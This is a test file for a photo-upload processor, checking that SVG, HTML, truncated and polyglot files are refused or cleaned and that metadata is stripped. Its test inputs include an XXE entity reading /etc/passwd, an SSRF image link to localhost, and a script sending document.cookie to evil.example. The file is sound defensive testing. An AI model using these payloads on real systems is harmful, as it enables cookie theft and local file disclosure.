import { sentence } from '../texts/sentence.js';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { cornerOf, cutOut } from '../../../test/support/cut-out.js';
import { PhotoRefused, type ProcessedPhoto } from '../application/ports/image-processor.js';
import { SharpImageProcessor } from './sharp-image-processor.js';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'porchlight-photos-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function process(filename: string, bytes: Buffer): Promise<ProcessedPhoto> {
  const path = join(folder, filename);
  await writeFile(path, bytes);
  return new SharpImageProcessor().process({ field: 'images', filename, path, bytes: bytes.length });
}
const plain = (width = 40, height = 30) => sharp({ create: { width, height, channels: 3, background: '#884422' } });

const noise = (width = 400, height = 300) =>
  sharp({
    create: { width, height, channels: 3, background: '#777777', noise: { type: 'gaussian', mean: 120, sigma: 40 } },
  });
const firstHalf = (file: Buffer): Buffer => file.subarray(0, file.length / 2);
/** A JPEG up to where the picture itself begins. */
const headerOf = (jpeg: Buffer): Buffer => {
  const scan = jpeg.indexOf(Buffer.from([0xff, 0xda]));
  return jpeg.subarray(0, scan + 2 + jpeg.readUInt16BE(scan + 2));
};

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">';
const ENTITY = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
const PROGRAM = '<script>fetch("https://evil.example/?"+document.cookie)</script>';

describe('a file that is not a photo', () => {
  it.each<[string, () => Buffer | Promise<Buffer>]>([
    ['drawing.svg', () => Buffer.from(`${SVG}<rect width="9" height="9"/></svg>`)],
    ['entity.jpg', () => Buffer.from(`<?xml version="1.0"?>${ENTITY}${SVG}<text>&x;</text></svg>`)],
    ['asks.png', () => Buffer.from(`${SVG}<image href="http://127.0.0.1:9/secret" width="9" height="9"/></svg>`)],
    ['huge.svg', () => Buffer.from(SVG.replaceAll('"9"', '"900000"') + '</svg>')],
    ['moving.gif', () => Buffer.from('R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=', 'base64')],
    ['scan.tiff', () => plain().tiff().toBuffer()],
    ['phone.avif', () => plain().avif().toBuffer()],
    ['page.html', () => Buffer.from(`<!doctype html>${PROGRAM}`)],
    ['begins-like.jpg', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(PROGRAM)])],
    ['only-header.jpg', async () => headerOf(await plain().jpeg().toBuffer())],
    ['only-header.png', async () => (await plain().png().toBuffer()).subarray(0, 50)],
    ['half.jpg', async () => firstHalf(await noise().jpeg().toBuffer())],
    ['half.png', async () => firstHalf(await noise().png().toBuffer())],
    ['half.webp', async () => firstHalf(await noise().webp().toBuffer())],
    ['empty.jpg', () => Buffer.alloc(0)],
  ])('%s is refused with a message that names it', async (name, make) => {
    const refused = process(name, await make());
    await expect(refused).rejects.toBeInstanceOf(PhotoRefused);
    await expect(refused).rejects.toThrow(sentence('problem.not-a-photo', { name }));
  });

  it('is not parsed by a program for its format', async () => {
    await expect(sharp(Buffer.from(`${SVG}</svg>`)).metadata()).rejects.toThrow('unsupported image format');
    await expect(sharp(await plain().tiff().toBuffer()).metadata()).rejects.toThrow('unsupported image format');
  });
});

describe('a photo without its last bytes', () => {
  it.each<[string, () => Promise<Buffer>, cut: number]>([
    ['end', () => noise().jpeg().toBuffer(), 2],
    ['plain', () => plain().jpeg().toBuffer(), 2],
    ['hundred', () => noise().jpeg().toBuffer(), 100],
    ['progressive', () => noise().jpeg({ progressive: true }).toBuffer(), 100],
    ['turned', () => noise().withMetadata({ orientation: 6 }).jpeg().toBuffer(), 1_000],
    ['screenshot', () => noise().png().toBuffer(), 200],
  ])('is a photo: %s', async (name, make, cut) => {
    const bytes = await make();
    const whole = await process(`${name}-whole.jpg`, bytes);
    const made = await process(`${name}.jpg`, bytes.subarray(0, bytes.length - cut));
    const [meant, got] = await Promise.all([whole.large, made.large].map((photo) => sharp(photo).metadata()));
    expect([got?.format, got?.width, got?.height]).toEqual(['webp', meant?.width, meant?.height]);
    const top = (photo: Buffer) => sharp(photo).extract({ left: 0, top: 0, width: 20, height: 20 }).raw().toBuffer();
    // Lossy sizes of nearly the same picture differ by little.
    const [before, after] = [await top(whole.large), await top(made.large)];
    expect(Math.max(...before.map((value, at) => Math.abs(value - (after[at] ?? 0))))).toBeLessThan(60);
  });
});

describe('a transparent photo', () => {
  it('is on white where it becomes a JPEG', async () => {
    const { large } = await process('cut-out.png', Buffer.from(await (await cutOut()).arrayBuffer()));
    const processor = new SharpImageProcessor();
    for (const made of [await processor.preview(large), await processor.asJpeg(large)]) {
      const { format, hasAlpha } = await sharp(made).metadata();
      expect([format, hasAlpha, await cornerOf(made)]).toEqual(['jpeg', false, [255, 255, 255]]);
    }
  });
});

describe('a photo with embedded data', () => {
  it.each(['jpeg', 'png', 'webp'] as const)('is stored without it: %s', async (format) => {
    const about = {
      IFD0: { ImageDescription: PROGRAM, Copyright: 'Maya Tremblay' },
      IFD3: { GPSLatitude: '43/1 47/1' },
    };
    const photo = await plain().withExif(about).toFormat(format).toBuffer();
    const archive = Buffer.from('PK\u0003\u0004 another file');
    const { large, thumbnail } = await process(
      `two-in-one.${format}`,
      Buffer.concat([photo, archive, Buffer.from(PROGRAM)]),
    );
    for (const made of [large, thumbnail]) {
      const { format: becomes, exif, xmp, icc } = await sharp(made).metadata();
      expect([becomes, exif, xmp, icc]).toEqual(['webp', undefined, undefined, undefined]);
      for (const left of ['<script', 'Tremblay', 'another file']) expect(made.includes(left)).toBe(false);
    }
  });
});
